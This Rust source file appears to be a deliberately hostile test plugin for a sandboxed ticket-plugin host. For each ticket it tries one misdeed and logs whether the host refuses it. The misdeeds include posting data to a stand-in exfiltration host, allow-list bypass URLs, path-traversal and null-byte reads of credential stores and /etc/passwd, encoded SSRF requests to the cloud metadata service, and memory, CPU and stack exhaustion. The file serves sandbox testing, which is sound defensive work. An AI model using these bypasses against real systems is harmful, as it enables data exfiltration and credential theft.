//! What it tries: one misdeed a ticket, chosen by the ticket's number modulo their count.

use std::hint::black_box;

use portcullis_sdk::prelude::*;
use portcullis_sdk::tickets::Field;

use crate::statistics::DASHBOARD;

/// What is tried on one ticket.
type Misdeed = fn(&str);

/// All of them, with their names; the place in the list is the remainder that chooses it.
pub const ALL: [(&str, Misdeed); 11] = [
    ("nothing", |_| {}),
    ("fields", fields),
    ("comments", comments),
    ("exfiltration", exfiltration),
    ("another plugin's host", other_host),
    ("credentials in the store", credentials),
    ("a credential of its own", own_credential),
    ("the metadata service", metadata),
    ("an endless loop", endless_loop),
    ("endless memory", endless_memory),
    ("endless recursion", endless_recursion),
];

/// The misdeed for a ticket's number.
pub fn of(number: usize) -> Misdeed {
    ALL[number % ALL.len()].1
}

/// Logs how a try ended. Refusals are what it should meet.
fn report<T>(what: &str, result: Result<T, Error>) {
    match result {
        Ok(_) => log::error!("{what}: got through"),
        Err(error) => log::warn!("{what}: {error}"),
    }
}

/// Reads who asked and what they wrote, of which the manifest says nothing.
fn fields(ticket: &str) {
    report("requester", tickets::get(ticket, &[Field::RequesterId]));
    report("description", tickets::get(ticket, &[Field::Description]));
    report("both among granted ones", tickets::get(ticket, &[Field::Status, Field::RequesterId, Field::Description]));
}

/// Reads the conversation.
fn comments(ticket: &str) {
    report("comments", tickets::comments(ticket, None));
}

/// Sends what it knows to a place of its own, and to places that only look like the granted one.
fn exfiltration(ticket: &str) {
    let body = serde_json::json!({ "ticket": ticket });
    for url in [
        "https://exfil.example.net/collect",
        "https://metrics.example.test.exfil.example.net/v1/collect",
        "https://metrics.example.test@exfil.example.net/v1/collect",
        "https://metrics.example.test:8443/v1/collect",
        "https://metrics.example.test/v1/../collect",
        "http://metrics.example.test/v1/collect",
    ] {
        report(url, http::Request::post(url).json(&body).send());
    }
}

/// Posts to the host that another plugin was granted, hoping to ride on that one's credential.
fn other_host(ticket: &str) {
    let url = "https://chat.example.test/services/support";
    report(url, http::Request::post(url).json(&serde_json::json!({ "text": ticket })).send());
}

/// Looks for the host's secrets where a careless host would keep them.
fn credentials(_: &str) {
    for (bucket, key) in [
        ("../credentials", "token"),
        ("/etc", "passwd"),
        ("credentials", "token"),
        ("counts", "../credentials/token"),
        ("counts", "token"),
        ("counts", "token\0"),
    ] {
        let found = kv::open(bucket).and_then(|bucket| bucket.get(key)).and_then(|value| value.ok_or(Error::NotFound));
        report(&format!("{bucket} {key:?}"), found);
    }
}

/// Sends credentials of its own to its granted host. The host drops them, so the answer is an honest one; only the
/// receiver can tell.
fn own_credential(_: &str) {
    let answer = http::Request::post(DASHBOARD)
        .header("authorization", "Bearer of-my-own")
        .header("cookie", "session=of-my-own")
        .header("proxy-authorization", "Basic b2YtbXktb3du")
        .body("{}")
        .send();
    match answer {
        Ok(answer) => log::warn!("a credential of its own: sent, answered {}", answer.status()),
        Err(error) => log::warn!("a credential of its own: {error}"),
    }
}

/// Asks the machine that the host runs on for its keys.
fn metadata(_: &str) {
    for url in [
        "https://169.254.169.254/latest/meta-data/",
        "https://[::ffff:169.254.169.254]/latest/meta-data/",
        "https://2852039166/latest/meta-data/",
        "https://localhost/latest/meta-data/",
    ] {
        report(url, http::Request::post(url).send());
    }
}

/// Never comes back, and calls nothing.
fn endless_loop(_: &str) {
    let mut turns = 0u64;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

/// Takes all the memory that there is.
fn endless_memory(_: &str) {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![0xAB; 256 * 1024]);
        black_box(&hoard);
    }
}

/// Uses up the stack.
fn endless_recursion(_: &str) {
    report("recursion", Ok(deeper(black_box(1))));
}

/// What happens to the result after the call keeps the optimiser from making a loop of it.
fn deeper(depth: u64) -> u64 {
    if black_box(depth) == 0 {
        return 0;
    }
    black_box(deeper(depth + 1)) + 1
}
